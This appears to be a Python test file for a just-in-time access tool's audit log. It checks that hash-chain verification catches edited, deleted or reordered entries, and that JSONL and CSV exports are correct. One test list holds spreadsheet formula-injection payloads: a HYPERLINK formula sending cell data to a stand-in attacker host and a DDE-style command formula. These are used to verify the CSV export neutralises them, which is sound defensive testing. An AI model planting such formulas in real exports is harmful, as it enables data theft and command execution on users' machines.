"""``jitaccess audit verify`` and ``audit export`` against a real, then tampered, log."""

from __future__ import annotations

import csv
import hashlib
import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest
from freezegun import freeze_time

from conftest import ADMIN, APPROVER, PUBLISHER, START, Cli, flat

#: What `make_history` records, in order: one audit entry per transition.
ACTIONS = ["app_registered", "standing_granted", "submit", "approve", "activate", "expire"]


def register_crm(cli: Cli) -> None:
    """``crm`` in manual mode: PUBLISHER may ask, APPROVER decides, ADMIN administers."""
    cli(
        "apps",
        "register",
        "crm",
        "--scope",
        "/subscriptions/s1/resourceGroups/mrg-crm",
        "--publisher",
        PUBLISHER,
        "--admin",
        ADMIN,
        "--mode",
        "manual",
        "--approver",
        APPROVER,
    )


def make_history(cli: Cli) -> None:
    """Register (with the publisher's standing access), request, approve, activate and
    expire: six audit entries."""
    with freeze_time(START) as frozen:
        register_crm(cli)
        rid = cli.json(
            "requests",
            "submit",
            "crm",
            "--as",
            PUBLISHER,
            "--role",
            "Contributor",
            "--duration",
            "1h",
            "--start",
            "2026-11-27T11:00Z",
            "--reason",
            "deploy hotfix",
        )["id"]
        cli("requests", "approve", rid, "--as", APPROVER, "--reason", "CHG-42 approved")
        frozen.move_to("2026-11-27 11:00:00")
        cli("sweep")
        frozen.move_to("2026-11-27 12:00:00")
        cli("sweep")
        assert cli.json("requests", "show", rid)["state"] == "expired"


def tamper(db_path: Path, *statements: str) -> None:
    conn = sqlite3.connect(db_path)
    try:
        with conn:
            for statement in statements:
                assert conn.execute(statement).rowcount >= 1, statement
    finally:
        conn.close()


def exported(cli: Cli) -> list[dict[str, Any]]:
    return [
        json.loads(line) for line in cli("audit", "export", "--format", "jsonl").stdout.splitlines()
    ]


def test_verify_passes_on_an_untouched_log(cli: Cli) -> None:
    make_history(cli)
    result = cli("audit", "verify")
    assert f"Audit log intact: {len(ACTIONS)} entries" in result.stdout
    assert result.stderr == ""


def test_verify_passes_on_an_empty_log(cli: Cli) -> None:
    assert "Audit log intact: 0 entries" in cli("audit", "verify").stdout


TAMPERING = [
    pytest.param(
        ["UPDATE audit_events SET reason = 'looked fine to me' WHERE seq = 4"],
        ["entry 4: content does not match its hash (edited)"],
        ["entry 3", "entry 5"],
        id="edit the approval reason",
    ),
    pytest.param(
        ["UPDATE audit_events SET actor = 'UOUT1' WHERE seq = 4"],
        ["entry 4: content does not match its hash (edited)"],
        ["entry 3", "entry 5"],
        id="rewrite who approved",
    ),
    pytest.param(
        ["DELETE FROM audit_events WHERE seq = 4"],
        ["entry 4 missing: deleted", "entry 5: does not follow the entry before it"],
        ["entry 3"],
        id="delete a middle entry",
    ),
    pytest.param(
        [
            "UPDATE audit_events SET seq = -1 WHERE seq = 3",
            "UPDATE audit_events SET seq = 3 WHERE seq = 4",
            "UPDATE audit_events SET seq = 4 WHERE seq = -1",
        ],
        ["entry 3: does not follow the entry before it", "entry 4:"],
        ["entry 2", "entry 6"],
        id="swap two entries",
    ),
    pytest.param(
        ["DELETE FROM audit_events WHERE seq = 6"],
        ["the log ends at entry 5 but its head says 6"],
        ["entry 4"],
        id="delete the last entry",
    ),
]


@pytest.mark.parametrize(("statements", "named", "not_named"), TAMPERING)
def test_verify_names_the_tampered_entry(
    cli: Cli, statements: list[str], named: list[str], not_named: list[str]
) -> None:
    make_history(cli)
    cli("audit", "verify")
    tamper(cli.db_path, *statements)
    result = cli("audit", "verify", code=1)
    message = flat(result.stderr)
    assert "Audit log tampered with" in message
    for fragment in named:
        assert fragment in message
    for fragment in not_named:
        assert fragment not in message
    assert "intact" not in result.stdout


def test_export_jsonl_one_line_per_transition_and_the_chain_recomputes(cli: Cli) -> None:
    make_history(cli)
    rows = exported(cli)
    assert [r["action"] for r in rows] == ACTIONS
    assert [r["seq"] for r in rows] == [1, 2, 3, 4, 5, 6]
    approve = rows[3]
    assert (approve["actor"], approve["from"], approve["to"], approve["reason"]) == (
        APPROVER,
        "pending",
        "approved",
        "CHG-42 approved",
    )
    assert approve["at"] == "2026-11-27T10:00:00.000000+00:00"
    # Anyone holding the export can check the chain without our code.
    prev = "0" * 64
    for row in rows:
        assert row["prev_hash"] == prev
        body = {k: v for k, v in row.items() if k not in ("hash", "prev_hash")}
        canonical = json.dumps(body, sort_keys=True, separators=(",", ":"))
        assert hashlib.sha256(f"{prev}\n{canonical}".encode()).hexdigest() == row["hash"]
        prev = row["hash"]


def test_export_csv_to_a_file(cli: Cli, tmp_path: Path) -> None:
    make_history(cli)
    target = tmp_path / "audit.csv"
    result = cli("audit", "export", "--format", "csv", "-o", target)
    assert f"Wrote {len(ACTIONS)} entries to {target}" in flat(result.stdout)
    with target.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(ACTIONS)
    assert {"seq", "at", "actor", "action", "reason", "prev_hash", "hash"} <= set(rows[0])
    assert [r["action"] for r in rows] == ACTIONS
    assert [r["hash"] for r in rows] == [r["hash"] for r in exported(cli)]
    assert rows[1]["prev_hash"] == rows[0]["hash"]
    assert json.loads(rows[2]["details"])["role"] == "Contributor"


def test_export_counts_only_transitions_that_happened(cli: Cli) -> None:
    make_history(cli)
    # refused actions write nothing
    cli("requests", "approve", "1", "--as", APPROVER, "--reason", "again", code=1)
    cli("requests", "cancel", "1", "--as", APPROVER, code=1)
    assert len(exported(cli)) == len(ACTIONS)


def test_export_to_an_unwritable_place_is_a_usage_error(cli: Cli, tmp_path: Path) -> None:
    result = cli("audit", "export", "-o", tmp_path / "no" / "such" / "dir.csv", code=2)
    assert "cannot write" in flat(result.stderr)


#: Justifications a spreadsheet would run as formulas, one per OWASP trigger character
#: (a leading tab or carriage return is trimmed off a justification when it is
#: submitted; ``csv_cell`` is tested with them below).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
]


def submit_formulas(cli: Cli) -> None:
    with freeze_time(START):
        register_crm(cli)
        for hour, reason in enumerate(FORMULAS, start=11):
            cli(
                "requests",
                "submit",
                "crm",
                "--as",
                PUBLISHER,
                "--role",
                "Contributor",
                "--duration",
                "1h",
                "--start",
                f"2026-11-27T{hour}:00Z",
                "--reason",
                reason,
            )


def test_csv_export_neutralises_every_cell_a_spreadsheet_would_run(
    cli: Cli, tmp_path: Path
) -> None:
    submit_formulas(cli)
    target = tmp_path / "audit.csv"
    cli("audit", "export", "--format", "csv", "-o", target)
    with target.open(newline="") as handle:
        rows = [r for r in csv.DictReader(handle) if r["action"] == "submit"]
    # Each dangerous justification is prefixed with one single quote, and nothing else
    # about it changes; a spreadsheet shows it as text.
    assert [r["reason"] for r in rows] == ["'" + reason for reason in FORMULAS]
    text = target.read_text()
    assert "'=HYPERLINK(" in text
    # Every cell is quoted (OWASP), so a separator inside a cell cannot start another.
    header = text.splitlines()[0]
    assert header.startswith('"seq","at",') and header.endswith('"hash"')
    # Ordinary cells are untouched.
    assert rows[0]["actor"] == PUBLISHER and rows[0]["app"] == "crm"


def test_jsonl_export_keeps_the_exact_justification(cli: Cli, tmp_path: Path) -> None:
    submit_formulas(cli)
    target = tmp_path / "audit.jsonl"
    cli("audit", "export", "--format", "jsonl", "-o", target)
    data = target.read_bytes()
    rows = [json.loads(line) for line in data.decode().splitlines()]
    assert [r["reason"] for r in rows if r["action"] == "submit"] == FORMULAS
    # Byte for byte what json.dumps writes: no quote added, nothing else changed.
    assert data == b"".join((json.dumps(row, default=str) + "\n").encode() for row in rows)
    for reason in FORMULAS:
        assert json.dumps(reason).encode() in data


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_quotes_each_owasp_trigger(trigger: str) -> None:
    from jitaccess.app.audit_log import csv_cell

    assert csv_cell(trigger + "1+1") == "'" + trigger + "1+1"
    assert csv_cell("a" + trigger + "1") == "a" + trigger + "1"
    assert csv_cell("") == ""
